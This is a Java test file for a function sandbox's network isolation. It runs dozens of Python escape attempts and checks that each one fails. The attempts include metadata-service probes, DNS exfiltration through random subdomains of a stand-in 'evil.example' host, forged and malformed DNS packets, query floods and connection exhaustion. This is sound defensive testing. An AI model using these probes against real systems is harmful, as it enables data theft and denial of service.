package dev.tsumuji.sandbox;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tsumuji.sandbox.ReachTest.Saying;
import java.io.IOException;
import java.util.List;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Programs that try to get out of their sandbox by its network. After each, a neighbour still finds the platform. */
class NetworkAttackTest {
    static Machine machine;
    static Machine.Function neighbour;
    static Machine.Function attacker;
    static Saying plain;
    static Saying secure;
    static Saying bystander;

    @BeforeAll
    static void open() throws IOException {
        plain = new Saying("plain", false);
        secure = new Saying("secure", false);
        bystander = new Saying("not for functions", true);
        machine = new Machine(settings -> settings.egress(EgressPolicy.parse(
                "none; attacker = *.allowed.example, localhost.allowed.example:8080, 192.0.2.0/24:9999")));
        machine.sandboxes.platform(plain.address(), secure.address());
        neighbour = machine.python("""
                import socket, threading
                server = socket.create_server(('0.0.0.0', 7777))
                threading.Thread(target=lambda: [c[0].close() for c in iter(server.accept, None)], daemon=True).start()
                def handler(event, context):
                    with socket.create_connection(('sts.amazonaws.com', 443), 5) as s:
                        return s.makefile().readline().strip()
                """).name("neighbour");
        assertThat(neighbour.ask("1")).isEqualTo("\"secure\"");
    }

    @AfterAll
    static void close() throws Exception {
        if (machine != null) {
            neighbour.close();
            if (attacker != null) {
                attacker.close();
            }
            machine.close();
            plain.close();
            secure.close();
            bystander.close();
        }
    }

    @AfterEach
    void the_neighbour_still_finds_the_platform() {
        assertThat(neighbour.ask("1")).isEqualTo("\"secure\"");
    }

    /** @param body Python that returns what it got; an error's name when it got nothing; {@code event} is a port of the host */
    record Attack(String name, String body, String expected) {
        @Override
        public String toString() {
            return name;
        }
    }

    private static final String PRELUDE = """
            import errno, os, select, socket, struct, sys, threading, time
            def tcp(host, port, timeout=3):
                return socket.create_connection((host, port), timeout)
            def line(host, port):
                with tcp(host, port) as s:
                    return s.makefile().readline().strip()
            def query(name, kind=1):
                labels = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.') if l)
                return b'\\x12\\x34\\x01\\0\\0\\1\\0\\0\\0\\0\\0\\0' + labels + b'\\0' + struct.pack('>HH', kind, 1)
            def udp(message, wait=1, server='198.18.0.1'):
                with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
                    s.settimeout(wait)
                    s.connect((server, 53))
                    s.send(message)
                    return s.recv(4096)
            def code(message):
                return udp(message)[3] & 15
            def handler(event, context):
                try:
                    return globals()['attack_' + event[0]](event[1])
                except socket.gaierror as e:
                    return {-2: 'no such name', -5: 'no address', -3: 'try again', -4: 'failed'}.get(e.errno, e.errno)
                except TimeoutError:
                    return 'silence'
                except OSError as e:
                    return errno.errorcode[e.errno]
            """;

    private static List<Attack> ports() {
        return List.of(
                // the host, its network, and other sandboxes
                new Attack("a port of the host's loopback", "return line('127.0.0.1', event)", "\"ECONNREFUSED\""),
                new Attack(
                        "the same by the other loopback addresses",
                        "return line('127.8.8.8', event)",
                        "\"ECONNREFUSED\""),
                new Attack("the same by the address of all", "return line('0.0.0.0', event)", "\"ECONNREFUSED\""),
                new Attack(
                        "the same by IPv6",
                        "return line('::1', event)",
                        "\"(ECONNREFUSED|EADDRNOTAVAIL|ENETUNREACH)\""),
                new Attack(
                        "the same by an IPv4 address in IPv6",
                        "return line('::ffff:127.0.0.1', event)",
                        "\"(ECONNREFUSED|ENETUNREACH)\""),
                new Attack(
                        "the same at the platform's address", "return line('198.18.0.2', event)", "\"ECONNREFUSED\""),
                new Attack(
                        "the same at any address of the inside",
                        "return line('198.19.255.254', event)",
                        "\"ECONNREFUSED\""),
                new Attack("another sandbox's server", "return line('127.0.0.1', 7777)", "\"ECONNREFUSED\""),
                new Attack("another sandbox's runtime interface", "return line('127.0.0.1', 9001)", "\"ECONNREFUSED\""),
                new Attack("the platform's debugger", "return line('127.0.0.1', 5005)", "\"ECONNREFUSED\""),
                new Attack(
                        "a daemon's port at the platform's address",
                        "return line('sts.amazonaws.com', 2375)",
                        "\"ECONNREFUSED\""),
                new Attack("the host's gateway", "return line('192.168.0.1', 80)", "\"ENETUNREACH\""),
                new Attack("the metadata service", "return line('169.254.169.254', 80)", "\"ENETUNREACH\""),
                new Attack("the metadata service of containers", "return line('169.254.170.2', 80)", "\"ENETUNREACH\""),
                new Attack(
                        "the metadata service by its name",
                        "return line('instance-data.ec2.internal', 80)",
                        "\"no such name\""),
                new Attack("a datagram out", "socket.socket(2, 2).sendto(b'x', ('1.1.1.1', 53))", "\"ENETUNREACH\""),
                new Attack("a broadcast", """
                        s = socket.socket(2, 2)
                        s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
                        s.sendto(b'x', ('255.255.255.255', 9))""", "\"ENETUNREACH\""),
                new Attack("a port below 1024 of its own", "socket.create_server(('127.0.0.1', 443))", "\"EACCES\""),
                new Attack("take the platform's port over", """
                        s = socket.socket()
                        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                        s.bind(('198.18.0.2', 443))""", "\"(EACCES|EADDRINUSE)\""),
                new Attack("take the name server's port over", """
                        s = socket.socket(2, 2)
                        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                        s.bind(('198.18.0.1', 53))""", "\"EACCES\""),
                new Attack("share an allowed port with the platform", """
                        s = socket.socket()
                        s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                        s.bind(('0.0.0.0', 8080))""", "\"EADDRINUSE\""),
                new Attack("change the interface", """
                        import fcntl
                        fcntl.ioctl(socket.socket(2, 2), 0x8914, struct.pack('16sH22x', b'lo', 0))""", "\"EPERM\""),
                new Attack("add a route by netlink", """
                        s = socket.socket(16, 3, 0)
                        s.send(struct.pack('=IHHII', 44, 24, 0x405, 1, 0) + bytes([2, 0, 0, 0, 254, 4, 0, 1]) + bytes(4) + struct.pack('=HHIHHI', 8, 1, 0, 8, 4, 1))
                        return struct.unpack_from('=i', s.recv(1000), 16)[0]""", "-1"),
                new Attack("send from another's address", """
                        s = socket.socket()
                        s.setsockopt(socket.SOL_IP, 19, 1)""", "\"EPERM\""));
    }

    private static List<Attack> names() {
        return List.of(
                // names
                new Attack("a name that isn't allowed", "return line('example.com', 443)", "\"no such name\""),
                new Attack("the domain itself", "return line('amazonaws.com', 443)", "\"no such name\""),
                new Attack(
                        "a name that only looks like AWS's",
                        "return line('sts.amazonaws.com.evil.example', 443)",
                        "\"no such name\""),
                new Attack("another that only looks so", "return line('evilamazonaws.com', 443)", "\"no such name\""),
                new Attack(
                        "a dot within a label",
                        "q = bytearray(query('stsXamazonaws.com')); q[16] = 46; return code(bytes(q))",
                        "3"),
                new Attack("carry data out in names", """
                        return [code(query(os.urandom(20).hex() + '.evil.example')) for i in range(20)].count(3)""", "20"),
                new Attack("read another sandbox's names", "return code(query('neighbour.allowed.internal'))", "3"),
                new Attack("a forged answer for the name server", """
                        q = bytearray(query('sts.amazonaws.com'))
                        q[2] |= 0x80
                        return udp(bytes(q)).hex()""", "\"silence\""),
                new Attack(
                        "an update of a name",
                        "q = bytearray(query('sts.amazonaws.com')); q[2] = 0x28; return code(bytes(q))",
                        "4"),
                new Attack("a name that points to itself", """
                        return code(query('')[:12] + b'\\xc0\\x0c\\0\\1\\0\\1')""", "1"),
                new Attack("a name without an end", "return code(query('')[:12] + b'\\x3f' + b'a' * 63)", "1"),
                new Attack("a thousand questions in one", """
                        return code(b'\\1\\1\\1\\0\\3\\xe8\\0\\0\\0\\0\\0\\0' + b'\\1a\\0\\0\\1\\0\\1' * 500)""", "1"),
                new Attack("the transfer of a zone", "return code(query('amazonaws.com', 252))", "3"),
                new Attack("empty, short and long datagrams", """
                        with socket.socket(2, 2) as s:
                            s.connect(('198.18.0.1', 53))
                            for n in (0, 1, 11, 12, 13, 4096, 60000):
                                s.send(bytes(n))
                        return udp(query('sts.amazonaws.com'))[-4:].hex()""", "\"c6120002\""),
                new Attack("random datagrams", """
                        with socket.socket(2, 2) as s:
                            s.connect(('198.18.0.1', 53))
                            for i in range(3000):
                                s.send(os.urandom(i % 90))
                        time.sleep(0.4)
                        return udp(query('sts.amazonaws.com'), 3)[-4:].hex()""", "\"c6120002\""),
                new Attack("a flood of questions", """
                        with socket.socket(2, 2) as s:
                            s.setblocking(False)
                            s.connect(('198.18.0.1', 53))
                            end, q = time.time() + 1.5, query('sts.amazonaws.com')
                            while time.time() < end:
                                try:
                                    s.send(q)
                                except BlockingIOError:
                                    pass
                        time.sleep(0.4)
                        return udp(query('sts.amazonaws.com'), 3)[-4:].hex()""", "\"c6120002\""),
                new Attack("connections to the name server that say nothing", """
                        held = [tcp('198.18.0.1', 53) for i in range(100)]
                        closed = 0
                        for s in held:
                            s.settimeout(6)
                            closed += s.recv(1) == b''
                        return [closed, udp(query('sts.amazonaws.com'))[-4:].hex()]""", "[100,\"c6120002\"]"),
                new Attack("half a question by TCP", """
                        with tcp('198.18.0.1', 53) as s:
                            s.sendall(b'\\xff\\xff\\0\\0')
                            s.settimeout(6)
                            return s.recv(10).hex()""", "\"\""),
                new Attack("more allowed names than there is room for", """
                        found = [code(query('n%d.allowed.example' % i)) for i in range(1100)]
                        return [found.count(0), found.count(3)]""", "[1024,76]"));
    }

    private static List<Attack> connections() {
        return List.of(
                // connections
                new Attack(
                        "an allowed name on a port that isn't",
                        "return line('a.allowed.example', 22)",
                        "\"(ECONNREFUSED|no such name)\""),
                new Attack("an allowed name that has no address", """
                        s = tcp('198.18.1.0', 443)
                        s.settimeout(20)
                        return s.recv(10).hex()""", "\"(|ECONNRESET)\""),
                new Attack(
                        "an address of the inside that has no name",
                        "return tcp('198.19.7.7', 443).recv(10).hex()",
                        "\"(|ECONNRESET)\""),
                new Attack(
                        "the loopback on an allowed port",
                        "return tcp('127.0.0.1', 8080).recv(10).hex()",
                        "\"(|ECONNRESET)\""),
                new Attack("an address next to an allowed block", "return line('192.0.3.1', 9999)", "\"ENETUNREACH\""),
                new Attack(
                        "an allowed block on another port",
                        "return tcp('192.0.2.1', 8080).recv(10).hex()",
                        "\"(|ECONNRESET)\""),
                new Attack("more connections than there is room for", """
                        held = []
                        for i in range(400):
                            s = socket.socket()
                            s.setblocking(False)
                            s.connect_ex(('198.18.0.2', 443))
                            held.append(s)
                        time.sleep(0.5)
                        for s in held:
                            s.close()
                        time.sleep(0.5)
                        return line('sts.amazonaws.com', 443)""", "\"secure\""),
                new Attack("connections that are dropped at once", """
                        for i in range(300):
                            s = socket.socket()
                            s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))
                            s.connect(('198.18.0.2', 443))
                            s.close()
                        return line('sts.amazonaws.com', 443)""", "\"secure\""),
                new Attack("half-open connections", """
                        held = []
                        for i in range(50):
                            s = tcp('198.18.0.2', 443)
                            s.shutdown(socket.SHUT_WR)
                            held.append(s)
                        return line('sts.amazonaws.com', 443)""", "\"secure\""));
    }

    static List<Attack> attacks() {
        var all = new java.util.ArrayList<>(ports());
        all.addAll(names());
        all.addAll(connections());
        return all;
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("attacks")
    void an_attack_gets_nowhere(Attack attack) {
        if (attacker == null || !attacker.sandbox().isAlive()) {
            attacker = machine.python(program()).name("attacker");
        }
        var number = attacks().indexOf(attack);
        var expected = attack.expected.replace("[", "\\[").replace("]", "\\]");
        var answer = attacker.invoke(
                "[\"" + number + "\"," + bystander.listener.getLocalPort() + "]", java.time.Duration.ofSeconds(40));
        assertThat(Machine.text(answer).replace(", ", ",")).matches(expected);
    }

    private static String program() {
        var text = new StringBuilder(PRELUDE);
        var attacks = attacks();
        for (int i = 0; i < attacks.size(); i++) {
            text.append("def attack_")
                    .append(i)
                    .append("(event):\n")
                    .append(attacks.get(i).body.indent(4));
        }
        return text.toString();
    }

    @Test
    void what_a_sandbox_opened_is_closed_with_it() throws IOException {
        var before = descriptors();
        for (int i = 0; i < 10; i++) {
            try (var f = machine.python("def handler(e, c): return 1").name("attacker")) {
                assertThat(f.ask("1")).isEqualTo("1");
            }
        }
        var after = descriptors();
        for (int i = 0; i < 50 && after > before; i++) {
            java.util.concurrent.locks.LockSupport.parkNanos(50_000_000);
            after = descriptors();
        }
        assertThat(after).isLessThanOrEqualTo(before + 2);
    }

    private static long descriptors() throws IOException {
        try (var files = java.nio.file.Files.list(java.nio.file.Path.of("/proc/self/fd"))) {
            return files.count();
        }
    }
}
